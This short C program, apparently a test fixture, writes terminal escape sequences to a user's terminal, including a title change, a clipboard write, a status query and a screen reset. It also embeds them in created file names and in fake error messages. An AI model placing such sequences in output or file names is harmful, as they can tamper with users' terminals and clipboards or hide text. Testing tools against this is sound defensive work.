// Speaks to a terminal wherever its words may be shown.
#include "attack.h"

static const char *all[] = {"\033]0;31337\007", "\033[31337n", "\033]52;c;MzEzMzc=\007", "\033P31337\033\\", "\302\233" "31337n", "\033c\033[?1049h", 0};

int main(void) {
  say("ran\n");
  for (const char **one = all; *one; one++) {
    if (write(1, *one, strlen(*one)) < 0 || write(2, *one, strlen(*one)) < 0) return 1;
    char name[64];
    snprintf(name, sizeof name, "out%s", *one);
    close(open(name, O_CREAT | O_WRONLY, 0644));
    dprintf(2, "%s: cannot open %s/x: No such file or directory\n", *one, *one);
  }
  return 1;
}
